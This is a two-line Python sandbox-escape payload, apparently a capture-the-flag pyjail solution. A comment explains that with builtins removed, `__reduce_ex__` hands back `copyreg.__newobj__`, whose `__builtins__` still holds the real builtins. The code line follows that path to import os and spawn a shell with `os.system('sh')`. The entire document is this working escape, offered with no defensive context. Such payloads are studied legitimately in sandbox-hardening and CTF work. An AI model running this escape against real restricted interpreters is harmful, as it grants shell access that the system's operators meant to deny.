# restriction: builtins removed; idea: __reduce_ex__ hands back copyreg.__newobj__, a Python function whose __builtins__ is the real builtins dict
[].__reduce_ex__(2)[0].__builtins__['__import__']('os').system('sh')
